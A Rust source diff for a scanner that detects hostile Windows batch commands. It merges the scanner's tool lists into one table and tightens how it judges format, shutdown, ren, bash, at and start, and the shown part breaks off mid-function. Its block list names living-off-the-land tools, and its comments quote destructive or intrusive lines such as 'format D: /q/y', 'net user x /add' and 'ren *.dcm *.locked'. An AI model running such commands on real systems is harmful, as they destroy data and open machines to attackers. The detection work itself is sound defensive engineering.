@@ -104,88 +104,147 @@ const WRAPPERS: [&[u8]; 20] = [
 /// run a project or an installer; the living-off-the-land binaries of Windows). Review
 /// s23: `vssadmin` alone of these was known, and a line of `bcdedit`, `wevtutil cl`,
 /// `forfiles /c`, `curl -o` or `net user /add` was clean.
-const BATCH: [&[u8]; 78] = [
-    b"wsl",
-    b"powershell",
-    b"pwsh",
-    b"cmd",
-    b"certutil",
-    b"bitsadmin",
-    b"rundll32",
-    b"regsvr32",
-    b"mshta",
-    b"wscript",
-    b"cscript",
-    b"schtasks",
-    b"wmic",
-    b"msiexec",
-    b"vssadmin",
-    b"start",
-    b"echo off",
-    b"forfiles",
-    b"bcdedit",
-    b"wevtutil",
-    b"wbadmin",
-    b"msbuild",
-    b"cmstp",
-    b"taskkill",
-    b"installutil",
-    b"regasm",
-    b"regsvcs",
-    b"odbcconf",
-    b"pcalua",
-    b"esentutl",
-    b"diskshadow",
-    b"fsutil",
-    b"icacls",
-    b"takeown",
-    b"psexec",
-    b"curl",
-    b"certreq",
-    b"msdt",
-    b"netsh",
-    b"robocopy",
-    b"cipher",
-    b"net",
-    b"net1",
-    b"reg",
-    b"sc",
-    b"tar",
-    b"ftp",
-    b"del",
-    b"erase",
-    b"rd",
-    b"rmdir",
-    b"explorer",
+const BATCH_TOOLS: [(&[u8], Counts); 78] = [
+    (b"wsl", Counts::Ambiguous),
+    (b"powershell", Counts::Alone),
+    (b"pwsh", Counts::Ambiguous),
+    (b"cmd", Counts::Ambiguous),
+    (b"certutil", Counts::Alone),
+    (b"bitsadmin", Counts::Alone),
+    (b"rundll32", Counts::Alone),
+    (b"regsvr32", Counts::Alone),
+    (b"mshta", Counts::Alone),
+    (b"wscript", Counts::Alone),
+    (b"cscript", Counts::Alone),
+    (b"schtasks", Counts::Alone),
+    (b"wmic", Counts::Ambiguous),
+    (b"msiexec", Counts::Alone),
+    (b"vssadmin", Counts::Alone),
+    (b"start", Counts::Ambiguous),
+    (b"echo off", Counts::Alone),
+    (b"forfiles", Counts::Alone),
+    (b"bcdedit", Counts::Alone),
+    (b"wevtutil", Counts::Alone),
+    (b"wbadmin", Counts::Alone),
+    (b"msbuild", Counts::Alone),
+    (b"cmstp", Counts::Alone),
+    (b"taskkill", Counts::Alone),
+    (b"installutil", Counts::Alone),
+    (b"regasm", Counts::Alone),
+    (b"regsvcs", Counts::Alone),
+    (b"odbcconf", Counts::Alone),
+    (b"pcalua", Counts::Alone),
+    (b"esentutl", Counts::Alone),
+    (b"diskshadow", Counts::Alone),
+    (b"fsutil", Counts::Alone),
+    (b"icacls", Counts::Alone),
+    (b"takeown", Counts::Alone),
+    (b"psexec", Counts::Alone),
+    (b"curl", Counts::Ambiguous),
+    (b"certreq", Counts::Alone),
+    (b"msdt", Counts::Ambiguous),
+    (b"netsh", Counts::Alone),
+    (b"robocopy", Counts::Alone),
+    (b"cipher", Counts::Ambiguous),
+    (b"net", Counts::Ambiguous),
+    (b"net1", Counts::Ambiguous),
+    (b"reg", Counts::Ambiguous),
+    (b"sc", Counts::Ambiguous),
+    (b"tar", Counts::Ambiguous),
+    (b"ftp", Counts::Ambiguous),
+    (b"del", Counts::Ambiguous),
+    (b"erase", Counts::Ambiguous),
+    (b"rd", Counts::Ambiguous),
+    (b"rmdir", Counts::Ambiguous),
+    (b"explorer", Counts::Ambiguous),
     // Session 40 (review of session 39): living-off-the-land programs a line of one of
     // them ran unseen. Those also English or short are ambiguous (below).
-    b"shutdown",
-    b"format",
-    b"copy",
-    b"xcopy",
-    b"move",
-    b"ren",
-    b"rename",
-    b"expand",
-    b"extrac32",
-    b"tftp",
-    b"mofcomp",
-    b"regedit",
-    b"ftype",
-    b"assoc",
-    b"at",
-    b"runas",
-    b"conhost",
-    b"hh",
-    b"mklink",
-    b"attrib",
-    b"sdelete",
-    b"ntdsutil",
-    b"cmdkey",
-    b"winrm",
-    b"nltest",
-    b"bash",
+    (b"shutdown", Counts::Argued),
+    (b"format", Counts::Argued),
+    (b"copy", Counts::Argued),
+    (b"xcopy", Counts::Argued),
+    (b"move", Counts::Argued),
+    (b"ren", Counts::Argued),
+    (b"rename", Counts::Argued),
+    (b"expand", Counts::Argued),
+    (b"extrac32", Counts::Alone),
+    (b"tftp", Counts::Argued),
+    (b"mofcomp", Counts::Alone),
+    (b"regedit", Counts::Alone),
+    (b"ftype", Counts::Argued),
+    (b"assoc", Counts::Argued),
+    (b"at", Counts::Argued),
+    (b"runas", Counts::Alone),
+    (b"conhost", Counts::Alone),
+    (b"hh", Counts::Argued),
+    (b"mklink", Counts::Alone),
+    (b"attrib", Counts::Argued),
+    (b"sdelete", Counts::Alone),
+    (b"ntdsutil", Counts::Alone),
+    (b"cmdkey", Counts::Alone),
+    (b"winrm", Counts::Alone),
+    (b"nltest", Counts::Alone),
+    (b"bash", Counts::Argued),
 ];
+
+/// How a tool of [`BATCH_TOOLS`] counts at a command's start: the one source of
+/// [`BATCH`], [`AMBIGUOUS_BATCH`] and [`ARGUED_BATCH`] (session 41: the three lists
+/// repeated the names by hand, held together by a test only).
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Counts {
+    /// By its name alone: no word of English, and too long for chance bytes to spell.
+    Alone,
+    /// Only with what reads as its argument ([`tool_argument`]): one of
+    /// [`AMBIGUOUS_BATCH`].
+    Ambiguous,
+    /// Only with the arguments that make it dangerous ([`argues_danger`]): one of
+    /// [`ARGUED_BATCH`], ambiguous too.
+    Argued,
+}
+
+/// Whether a tool that counts as `counts` is one of those `of` names: all of them
+/// (`None`), those of its name alone, the ambiguous ones (an argued tool is one whose
+/// arguments are judged whole), or the argued ones.
+const fn is_of(of: Option<Counts>, counts: Counts) -> bool {
+    match of {
+        None => true,
+        Some(Counts::Alone) => matches!(counts, Counts::Alone),
+        Some(Counts::Ambiguous) => !matches!(counts, Counts::Alone),
+        Some(Counts::Argued) => matches!(counts, Counts::Argued),
+    }
+}
+
+/// How many tools of [`BATCH_TOOLS`] are of `of` ([`is_of`]).
+const fn batch_count(of: Option<Counts>) -> usize {
+    let (mut i, mut n) = (0, 0);
+    while i < BATCH_TOOLS.len() {
+        if is_of(of, BATCH_TOOLS[i].1) {
+            n += 1;
+        }
+        i += 1;
+    }
+    n
+}
+
+/// The names of the tools of [`BATCH_TOOLS`] that are of `of` ([`is_of`]), in its order;
+/// `N` is [`batch_count`] of `of` (checked when compiled).
+const fn batch_names<const N: usize>(of: Option<Counts>) -> [&'static [u8]; N] {
+    let mut names: [&[u8]; N] = [b""; N];
+    let (mut i, mut n) = (0, 0);
+    while i < BATCH_TOOLS.len() {
+        let (name, counts) = BATCH_TOOLS[i];
+        if is_of(of, counts) {
+            names[n] = name;
+            n += 1;
+        }
+        i += 1;
+    }
+    assert!(n == N, "N is the count of the names taken");
+    names
+}
+
+/// Every tool of [`BATCH_TOOLS`], whatever it asks for.
+const BATCH: [&[u8]; BATCH_TOOLS.len()] = batch_names(None);
 
 /// Programs of [`BATCH`] that are also words of clinical or technical English ("CMD
 /// (common bile duct)", "Start of contrast injection", "net change", "SC injection", "TAR
@@ -196,64 +255,14 @@ const BATCH: [&[u8]; 78] = [
 /// [`tool_argument`]): a switch it takes ([`BATCH_SWITCHES`]), a subcommand
 /// ([`BATCH_SUBCOMMANDS`]), a URL or a runnable name. Alone, `pwsh` and `wmic` start an
 /// interactive prompt reading the console, as `cmd.exe` does: nothing of the file.
-const AMBIGUOUS_BATCH: [&[u8]; 34] = [
-    b"pwsh",
-    b"wmic",
-    b"msdt",
-    b"explorer",
-    b"curl",
-    b"cipher",
-    b"wsl",
-    b"cmd",
-    b"start",
-    b"net",
-    b"net1",
-    b"reg",
-    b"sc",
-    b"tar",
-    b"ftp",
-    b"del",
-    b"erase",
-    b"rd",
-    b"rmdir",
-    b"shutdown",
-    b"format",
-    b"copy",
-    b"xcopy",
-    b"move",
-    b"ren",
-    b"rename",
-    b"expand",
-    b"tftp",
-    b"ftype",
-    b"assoc",
-    b"at",
-    b"hh",
-    b"attrib",
-    b"bash",
-];
+const AMBIGUOUS_BATCH: [&[u8]; batch_count(Some(Counts::Ambiguous))] =
+    batch_names(Some(Counts::Ambiguous));
 
 /// The tools of [`AMBIGUOUS_BATCH`] whose arguments [`argues_danger`] judges: words of
 /// English (`format`, `copy`, `move`, `expand`, `at`, `shutdown`), or short enough that
 /// chance bytes spell them (`ren`, `hh`, `tftp`, `bash`), that count only with the
 /// arguments that make them dangerous, never with any switch of theirs.
-const ARGUED_BATCH: [&[u8]; 15] = [
-    b"shutdown",
-    b"format",
-    b"copy",
-    b"xcopy",
-    b"move",
-    b"ren",
-    b"rename",
-    b"expand",
-    b"tftp",
-    b"ftype",
-    b"assoc",
-    b"at",
-    b"hh",
-    b"attrib",
-    b"bash",
-];
+const ARGUED_BATCH: [&[u8]; batch_count(Some(Counts::Argued))] = batch_names(Some(Counts::Argued));
 
 /// The subcommands an ambiguous tool of [`AMBIGUOUS_BATCH`] runs with as its first word:
 /// `net user x /add`, `reg add HKCU\...`, `sc stop MSSQLSERVER`.
@@ -633,14 +642,46 @@ const BATCH_SWITCHES: [ToolSwitches; 15] = [
 /// Extensions of a program name that `cmd.exe` runs, itself or through the program the
 /// extension is associated with by default (Windows Script Host, mshta, msiexec, the
 /// shell): a line of a batch file that starts with `calc.exe`, `\\host\share\x.exe` or
-/// `evil.vbs` runs it, whatever its name. `.ps1` opens in Notepad by default and is
-/// left to the PowerShell launchers; `.com` is left out: a line starting with a domain
-/// name (`EGENIX.COM SOFTWARE ...` in Python's library) is prose, and a program renamed
-/// `.com` is the rare case.
-const RUNNABLE_EXTENSIONS: [&[u8]; 15] = [
+/// `evil.vbs` runs it, whatever its name; `.msc` is in PATHEXT (an MMC console runs
+/// what its snap-ins name; session 41: `evil.msc` was clean). `.ps1` opens in Notepad
+/// by default and is left to the PowerShell launchers; `.com` is read apart
+/// ([`bare_com_name`]): a line starting with a domain name (`EGENIX.COM SOFTWARE ...` in
+/// Python's library) is prose.
+const RUNNABLE_EXTENSIONS: [&[u8]; 16] = [
     b".exe", b".bat", b".cmd", b".scr", b".pif", b".cpl", b".vbs", b".vbe", b".js", b".jse",
-    b".wsf", b".wsh", b".hta", b".msi", b".lnk",
+    b".wsf", b".wsh", b".hta", b".msi", b".lnk", b".msc",
 ];
+
+/// Whether `name`, a bare name of no tool known here, is one of a `.com` program and
+/// nothing else: letters, digits, `-` and `_`, then the extension (`evil.com`). `.COM`
+/// is first in PATHEXT, so such a name alone on its command runs the file (session 41:
+/// it was clean); a domain of more parts (`www.example.com`) or followed by prose
+/// (`EGENIX.COM SOFTWARE`) is text's. Of ASCII only: a name of chance bytes ending so
+/// (`…\xf1p.COm&&`, built by expanding an unset `%…%` in a window of
+/// `syntax_rich_windows_hold_no_chance_tool_or_block_command`) is none.
+fn bare_com_name(name: &[u8]) -> bool {
+    name.len() > 4
+        && name[name.len() - 4..].eq_ignore_ascii_case(b".com")
+        && name[..name.len() - 4]
+            .iter()
+            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
+}
+
+/// Whether `after` (what follows a tool's name) starts with an extension the tool's
+/// file has: `.exe`, or `.com` (`format.com`, `tree.com`, `mode.com` are the files of
+/// System32; session 41: `format.com D: /q /y` was clean).
+fn program_extension(after: &[u8]) -> bool {
+    after
+        .get(..4)
+        .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe") || ext.eq_ignore_ascii_case(b".com"))
+}
+
+/// `name` (lower case) without its `.exe` or `.com` ([`program_extension`]).
+fn without_program_extension(name: &[u8]) -> &[u8] {
+    name.strip_suffix(b".exe")
+        .or_else(|| name.strip_suffix(b".com"))
+        .unwrap_or(name)
+}
 
 /// Whether `after` (what follows the name of `tool`, an ambiguous launcher of
 /// [`AMBIGUOUS_BATCH`]) reads as its argument in a batch file rather than prose or
@@ -649,10 +690,7 @@ const RUNNABLE_EXTENSIONS: [&[u8]; 15] = [
 /// for `start` a quoted title (`start "" x`). A quote alone counted for every tool before
 /// issue 10: `\nRD "` is three bytes of chance after a two-letter name.
 fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> bool {
-    if after
-        .get(..4)
-        .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
-    {
+    if program_extension(after) && !ARGUED_BATCH.contains(&tool) {
         // `cmd.exe` with nothing after it to the command's end starts an interactive
         // shell reading the console, nothing of the file: JavaScript's
         // `process.env.comspec || "cmd.exe";` (cross-spawn, in playwright-core) is no
@@ -683,10 +721,20 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> 
         // A quoted title or a switch of its own, then what `start` runs: judged as a
         // command (session 40: `start "contrast" at 10:32` runs `at 10:32`, which
         // schedules nothing, and `start /min 5` a program `5`).
-        return start_runs(&line, chance_bytes).unwrap_or_else(|| names_program_or_url(token));
+        // Neither: what it runs is its first word, a program or a plain name cmd.exe
+        // looks for along the PATH (`start mimikatz`; session 41: it was clean).
+        return start_runs(&line, chance_bytes).unwrap_or_else(|| {
+            names_program_or_url(token) || hands_a_plain_name(&line, chance_bytes)
+        });
     }
     if ARGUED_BATCH.contains(&tool) {
-        return argues_danger(tool, &line, chance_bytes);
+        // `format.com D: /q`: its arguments after the extension.
+        let line = if program_extension(after) {
+            without_carets(&after[4..])
+        } else {
+            line
+        };
+        return argues_danger(tool, &line, chance_bytes, piped);
     }
     takes_a_switch(tool, after, chance_bytes)
         || runs_subcommand(tool, after, chance_bytes)
@@ -739,27 +787,68 @@ fn is_switch_separator(b: u8) -> bool {
 const PLAIN_NAME_MIN_IN_BINARY: usize = 3;
 
 /// Whether `command`, what a launcher hands cmd.exe apart from its switch (`cmd /c
-/// mimikatz`, `/c"mimikatz"`, `start "" mimikatz`, `start /b mimikatz`), starts with a
-/// plain name: cmd.exe looks it up along the PATH with each extension of PATHEXT, so a
-/// program dropped beside it runs (review rv40b: these alerted before session 40 and
-/// passed after it). Prose glues its words to the slash (`CMD /CBD dilated`) or names a
-/// title (`start "contrast" at 10:32`), judged by [`runs_command`] alone. In binary values
-/// the name has at least [`PLAIN_NAME_MIN_IN_BINARY`] letters.
+/// mimikatz`, `/c"mimikatz"`, `start "" mimikatz`, `start /b mimikatz`, `start
+/// mimikatz`), starts with a plain name: cmd.exe looks it up along the PATH with each
+/// extension of PATHEXT, so a program dropped beside it runs (review rv40b: these
+/// alerted before session 40 and passed after it). Prose glues its words to the slash
+/// (`CMD /CBD dilated`) or names a title (`start "contrast" at 10:32`), judged by
+/// [`runs_command`] alone. A plain name counts as a command's, alone on its command or
+/// with an argument only commands have ([`command_like_word`]), and none of cmd.exe's
+/// own commands ([`plain_program`]): report prose hands cmd.exe a word and more words
+/// (session 41: `Start "Time-out" /b procedure verified.` and `Start /B echo-planar
+/// imaging sequence.` alerted; cmd.exe looks for a program `procedure` or
+/// `echo-planar`, which no Windows has). In binary values the name has at least
+/// [`PLAIN_NAME_MIN_IN_BINARY`] letters.
 fn hands_a_plain_name(command: &[u8], chance_bytes: bool) -> bool {
     if !command.first().is_some_and(|&b| is_switch_separator(b)) {
         return false;
     }
-    let word = command
+    let from = command
         .iter()
-        .skip_while(|&&b| is_switch_separator(b))
-        .take_while(|&&b| !ends_word(b) && !matches!(b, b'"' | b'/'))
-        .copied()
-        .collect::<Vec<u8>>();
+        .position(|&b| !is_switch_separator(b))
+        .unwrap_or(command.len());
+    let len = command[from..]
+        .iter()
+        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
+        .unwrap_or(command.len() - from);
+    let word = &command[from..from + len];
+    // Past the quote closing a quoted name (`/c "payload"`).
+    let rest = &command[from + len..];
+    let rest = &rest[rest.iter().take_while(|&&b| b == b'"').count()..];
+    plain_program(word)
+        && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY)
+        && leading_arguments(rest, chance_bytes)
+            .next()
+            .is_none_or(command_like_word)
+}
+
+/// Whether `word` is a plain name cmd.exe looks for as a program's: a letter, then
+/// letters, digits, `_`, `-` and dots, not ending a sentence (`Dr.`), and none of
+/// cmd.exe's own commands ([`CMD_INTERNAL`], [`CMD_OTHER_INTERNAL`]), which no file
+/// need hold and which [`runs_command`] judges.
+fn plain_program(word: &[u8]) -> bool {
+    let lower = word.to_ascii_lowercase();
     word.first().is_some_and(u8::is_ascii_alphabetic)
         && word
             .iter()
             .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
-        && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY)
+        && word.last() != Some(&b'.')
+        && !CMD_INTERNAL.contains(&lower.as_slice())
+        && !CMD_OTHER_INTERNAL.contains(&lower.as_slice())
+}
+
+/// Whether `word`, the first argument after a plain name, is one only a command's line
+/// holds, never prose's: a switch (`/x`, `-x`, `--x`), a quoted argument, a path (`\`),
+/// a variable (`%`), a module's call (`privilege::debug`), a program or a URL.
+fn command_like_word(word: &[u8]) -> bool {
+    let switch = word.len() >= 2
+        && matches!(word[0], b'/' | b'-')
+        && (word[1].is_ascii_alphanumeric() || word[1] == b'-');
+    switch
+        || word.first() == Some(&b'"')
+        || word.iter().any(|b| matches!(b, b'\\' | b'%'))
+        || word.windows(2).any(|pair| pair == b"::")
+        || names_program_or_url(word)
 }
 
 /// Whether `line` redirects a program's input from a file (`< x.txt`, `0<x.txt`; not
@@ -911,6 +1000,34 @@ const CMD_INTERNAL: [&[u8]; 18] = [
     b"for",
 ];
 
+/// cmd.exe's other own commands, words of English left out of [`CMD_INTERNAL`]: no
+/// program a launcher looks for along the PATH (`start time` runs cmd.exe's `time`,
+/// which asks for a new time).
+const CMD_OTHER_INTERNAL: [&[u8]; 13] = [
+    b"break", b"color", b"date", b"exit", b"path", b"pause", b"prompt", b"rem", b"shift", b"time",
+    b"title", b"type", b"verify",
+];
+
+/// cmd.exe's own commands that only print, or set what the cmd.exe running them forgets
+/// when it ends (`cmd /c set x=1`): run by a launcher, they act only with a redirection
+/// that writes a file or an operator that runs another command (`echo x > a.bat`, `"set
+/// x=calc&& !x!"`). Session 41: `cmd /c echo of CBD seen` and `CMD /C ECHO normal` in
+/// reports alerted; cmd.exe prints `of CBD seen`.
+const QUIET_INTERNAL: [&[u8]; 7] = [
+    b"echo",
+    b"ver",
+    b"vol",
+    b"cls",
+    b"set",
+    b"setlocal",
+    b"endlocal",
+];
+
+/// The programs of [`SYSTEM_PROGRAMS`] that show a window: any other, alone, only
+/// prints what it finds (or its usage), which `at` sends nowhere (session 41: `At
+/// 15:20 ipconfig`).
+const SHOWS_A_WINDOW: [&[u8]; 3] = [b"calc", b"notepad", b"mspaint"];
+
 /// Whether `command` (what a launcher runs: `cmd /c`'s, `start`'s) starts with a program
 /// cmd.exe finds: a launcher of another command (`cmd`, `start`), a tool of [`BATCH`]
 /// (with the arguments an ambiguous one asks for), a program of [`SYSTEM_PROGRAMS`] or
@@ -931,9 +1048,14 @@ fn runs_command(command: &[u8], chance_bytes: bool) -> bool {
         .unwrap_or(start.len());
     let word = &start[..end];
     let lower = word.to_ascii_lowercase();
-    let name = lower.strip_suffix(b".exe").unwrap_or(&lower);
+    let name = without_program_extension(&lower);
     if matches!(name, b"cmd" | b"start") {
         return true;
+    }
+    if QUIET_INTERNAL.contains(&name) {
+        return start[end..]
+            .iter()
+            .any(|&b| matches!(b, b'>' | b'&' | b'|' | ESCAPED_OPERATOR));
     }
     if let Some(&tool) = BATCH.iter().find(|tool| **tool == name) {
         return !AMBIGUOUS_BATCH.contains(&tool)
@@ -947,7 +1069,7 @@ fn runs_command(command: &[u8], chance_bytes: bool) -> bool {
 /// name with an extension Windows runs or `.com`, a URL, or a name built by expansion.
 fn finds_program(word: &[u8]) -> bool {
     let lower = word.to_ascii_lowercase();
-    let name = lower.strip_suffix(b".exe").unwrap_or(&lower);
+    let name = without_program_extension(&lower);
     let known = |list: &[&[u8]]| list.contains(&name);
     !word.is_empty()
         && (known(&BATCH)
@@ -966,14 +1088,15 @@ fn finds_program(word: &[u8]) -> bool {
 /// renaming by wildcards (`ren *.dcm *.locked`), an association set (`assoc
 /// .txt=exefile`), a job scheduled to run a program (`at 23:00 x.exe`), a help file
 /// from afar, a file fetched by TFTP, hidden attributes, a script for bash.
-fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool) -> bool {
+fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> bool {
     let words: Vec<&[u8]> = leading_arguments(line, chance_bytes).collect();
     let remote = || words.iter().any(|word| names_remote_host(word));
-    // `/q`, `-F:*`, `/fs:ntfs`: a switch of `names` (one ending with `:` takes a value).
+    // `/q`, `-F:*`, `/fs:ntfs`: a switch of `names` (one ending with `:` takes a value);
+    // `/q/y`: Windows' tools read each part after a `/` as a switch (session 41:
+    // `format D: /q/y` was clean).
     let switch = |word: &[u8], names: &[&[u8]]| {
-        matches!(word.first(), Some(b'/' | b'-'))
-            && names.iter().any(|name| {
-                let part = &word[1..];
+        let one = |part: &[u8]| {
+            names.iter().any(|name| {
                 if name.ends_with(b":") {
                     part.get(..name.len())
                         .is_some_and(|head| head.eq_ignore_ascii_case(name))
@@ -981,6 +1104,12 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool) -> bool {
                     part.eq_ignore_ascii_case(name)
                 }
             })
+        };
+        match word.first() {
+            Some(b'/') => word[1..].split(|&b| b == b'/').any(one),
+            Some(b'-') => one(&word[1..]),
+            _ => false,
+        }
     };
     let any_switch = |names: &[&[u8]]| words.iter().any(|word| switch(word, names));
     // `name=value` on the raw line (`=` is one of cmd.exe's delimiters, so the words
@@ -1003,27 +1132,37 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool) -> bool {
             && value.first().is_some_and(|&b| b > b' ')
     };
     match tool {
-        b"copy" | b"xcopy" | b"move" => remote(),
+        // One source (copy joins more with `+`) and one destination: given more, copy,
+        // move and xcopy refuse the line ("The syntax of the command is incorrect.",
+        // "Invalid number of parameters") and copy nothing (session 41: `copy of report:
+        // \\PACSRV01\reports\2024` in a report alerted).
+        b"copy" | b"xcopy" | b"move" => remote() && (1..=2).contains(&operands(&words)),
         b"expand" => remote() || any_switch(&[b"f:"]),
         b"format" => {
             let drive = |word: &[u8]| matches!(word, [letter, b':'] | [letter, b':', b'\\'] if letter.is_ascii_alphabetic());
+            // Its prompt answered by a pipe or a file (`echo Y|format D:`; session 41).
             words.iter().any(|word| drive(word))
-                && any_switch(&[
+                && (any_switch(&[
                     b"q", b"y", b"fs:", b"x", b"p:", b"v:", b"a:", b"c", b"l", b"r:", b"s:",
-                ])
+                ]) || piped
+                    || stdin_from_file(line, chance_bytes))
         }
-        b"shutdown" => any_switch(&[
-            b"s", b"r", b"l", b"h", b"p", b"g", b"sg", b"a", b"f", b"t", b"m", b"hybrid", b"fw",
-            b"e", b"o", b"soft", b"d", b"c",
-        ]),
+        b"shutdown" => shutdown_acts(&words),
         // In binary values both names in printable ASCII: `\nren ` then a `*` in a word
         // of chance bytes is ~2e-6 a window (ARCHITECTURE invariant 11).
         b"ren" | b"rename" => {
             let printable =
                 |word: &[u8]| !chance_bytes || word.iter().all(|b| (0x20..0x7F).contains(b));
+            // A `for` loop's file (`ren "%f" "%~nf.locked"`) is as many files as a
+            // wildcard (session 41: it was clean).
+            let variable = |word: &[u8]| {
+                word.windows(2).any(|pair| {
+                    pair[0] == b'%' && (pair[1].is_ascii_alphabetic() || pair[1] == b'~')
+                })
+            };
             words.len() >= 2
-                && words[0].iter().any(|b| matches!(b, b'*' | b'?'))
-                && words[1].iter().any(|b| matches!(b, b'*' | b'.'))
+                && (words[0].iter().any(|b| matches!(b, b'*' | b'?')) || variable(words[0]))
+                && (words[1].iter().any(|b| matches!(b, b'*' | b'.')) || variable(words[1]))
                 && printable(words[0])
                 && printable(words[1])
         }
@@ -1053,57 +1192,179 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool) -> bool {
                 || word.eq_ignore_ascii_case(b"get")
                 || word.eq_ignore_ascii_case(b"put")
         }),
-        b"bash" => words.first().is_some_and(|word| {
-            let options = word.strip_prefix(b"-").filter(|letters| {
-                !letters.is_empty() && letters.iter().all(u8::is_ascii_alphabetic)
-            });
-            options.is_some_and(|letters| letters.contains(&b'c')) && words.len() >= 2
-                || word.to_ascii_lowercase().ends_with(b".sh")
-        }),
+        b"bash" => bash_runs(&words),
+        _ => false,
+    }
+}
+
+/// How many operands (not switches) `words`, the arguments of copy, move or xcopy, name:
+/// sources copy joins with `+` (`a+b`, `a + b`) are one.
+fn operands(words: &[&[u8]]) -> usize {
+    let mut count = 0;
+    let mut joined = false;
+    for word in words {
+        if word.first() == Some(&b'/') {
+            continue;
+        }
+        if !joined && word.first() != Some(&b'+') {
+            count += 1;
+        }
+        joined = word.last() == Some(&b'+');
+    }
+    count
+}
+
+/// The switches of shutdown.exe (`shutdown /?`), and those that take the next word as
+/// their value (`/t 0`, `/c "why"`, `/d p:4:1`, `/m \\host`).
+const SHUTDOWN_SWITCHES: [&[u8]; 19] = [
+    b"s", b"r", b"l", b"h", b"p", b"g", b"sg", b"a", b"f", b"t", b"m", b"hybrid", b"fw", b"e",
+    b"o", b"soft", b"d", b"c", b"i",
+];
+const SHUTDOWN_VALUED: [&[u8]; 4] = [b"t", b"c", b"d", b"m"];
+
+/// Whether shutdown.exe, given `words`, acts: every word one of its switches (`/r`,
+/// `-r`, several glued: `/r/f/t 0`) or the value of the switch before it, and one switch
+/// at least. shutdown.exe takes any other word for an error: it prints its usage and
+/// acts on nothing (session 41: `Shutdown -r delayed due to emergency` in a report
+/// alerted; `shutdown /r/f/t 0` was clean).
+fn shutdown_acts(words: &[&[u8]]) -> bool {
+    let mut words = words.iter();
+    let mut any = false;
+    while let Some(word) = words.next() {
+        let Some((&dash, parts)) = word.split_first() else {
+            return false;
+        };
+        if !matches!(dash, b'/' | b'-') {
+            return false;
+        }
+        let mut valued = false;
+        for part in parts.split(|&b| b == dash) {
+            if !SHUTDOWN_SWITCHES
+                .iter()
+                .any(|name| name.eq_ignore_ascii_case(part))
+            {
+                return false;
+            }
+            valued = SHUTDOWN_VALUED
+                .iter()
+                .any(|name| name.eq_ignore_ascii_case(part));
+        }
+        if valued && words.next().is_none() {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
+/// Whether bash, given `words`, runs a command or a script: its options (`-i`, `-e`,
+/// `--login`, `--rcfile x`, `-o x`) before `-c` and the command, or a script named by
+/// its path (`/tmp/x`, `./x`, `~/x`) or its `.sh`. Session 41: `bash --login -c …`, `bash
+/// -i -c …` and `bash /tmp/x` were clean (only a first word of `-c` or `.sh` counted).
+/// A word of prose after it is no option (`Bash -c/Bash c sign`) and no path (`Bash w/o
+/// contrast`, `Bash /Bankart lesion`: one part).
+fn bash_runs(words: &[&[u8]]) -> bool {
+    let unquoted =
+        |word: &[u8]| -> Vec<u8> { word.iter().copied().filter(|&b| b != b'"').collect() };
+    let mut command = false;
+    let mut at = 0;
+    while let Some(word) = words.get(at).map(|word| unquoted(word)) {
+        at += 1;
+        if word == b"--" {
+            break;
+        }
+        if let Some(long) = word.strip_prefix(b"--") {
+            if long.is_empty() || !long.iter().all(|&b| b.is_ascii_lowercase() || b == b'-') {
+                return false;
+            }
+            if matches!(long, b"rcfile" | b"init-file") {
+                at += 1;
+            }
+            continue;
+        }
+        let Some(letters) = word.strip_prefix(b"-").or_else(|| word.strip_prefix(b"+")) else {
+            at -= 1;
+            break;
+        };
+        if letters.is_empty() || !letters.iter().all(u8::is_ascii_alphabetic) {
+            return false;
+        }
+        command |= letters.contains(&b'c');
+        // `-o errexit`, `-O extglob`: an option's name follows.
+        at += usize::from(letters.iter().any(|b| matches!(b, b'o' | b'O')));
+    }
+    let Some(operand) = words.get(at).map(|word| unquoted(word)) else {
+        return false;
+    };
+    if command {
+        return true;
+    }
+    let script_path = ["/", "./", "../", "~/"].iter().any(|root| {
+        operand
+            .strip_prefix(root.as_bytes())
+            .is_some_and(|rest| *root != "/" || rest.contains(&b'/'))
+    }) && operand.last() != Some(&b'/');
+    script_path || operand.to_ascii_lowercase().ends_with(b".sh")
+}
+
+/// Whether `word` is a time `at` reads: `23:00`, `3:00`, and of twelve hours `3:00PM`,
+/// `3:00pm`, `3:00P` (session 41: `at 3:00PM C:\x\evil.exe` was clean).
+fn is_at_time(word: &[u8]) -> bool {
+    let lower = word.to_ascii_lowercase();
+    let clock = [&b"am"[..], b"pm", b"a", b"p"]
+        .iter()
+        .find_map(|suffix| lower.strip_suffix(*suffix))
+        .unwrap_or(&lower);
+    match clock {
+        [h, b':', m1, m2] => h.is_ascii_digit() && m1.is_ascii_digit() && m2.is_ascii_digit(),
+        [h1, h2, b':', m1, m2] => [h1, h2, m1, m2].iter().all(|b| b.is_ascii_digit()),
         _ => false,
     }
 }
 
 /// Whether `at`'s arguments schedule a program: an optional remote host (`\\dc01`), a
-/// time (`23:00`, `3:00`), its switches (`/every:M`, `/interactive`), then a program
-/// cmd.exe finds ([`finds_program`]). `at 10:32` alone, or followed by prose, schedules
-/// nothing.
+/// time ([`is_at_time`]), its switches (`/every:M`, `/interactive`), then a program
+/// cmd.exe finds ([`finds_program`]), or a plain name ([`plain_program`]) as a command
+/// holds one: alone, or with a command's argument ([`command_like_word`]; session 41:
+/// `at 23:00 mimikatz` was clean). `at 10:32` alone, or followed by prose, schedules
+/// nothing; nor does a program that only prints what it finds, alone (`At 15:20
+/// ipconfig`: `at` runs it as SYSTEM without a console, its output goes nowhere).
 fn at_runs(words: &[&[u8]]) -> bool {
-    let mut words = words.iter().copied().peekable();
-    if words.peek().is_some_and(|word| names_remote_host(word)) {
-        words.next();
-    }
-    let time = |word: &[u8]| match word {
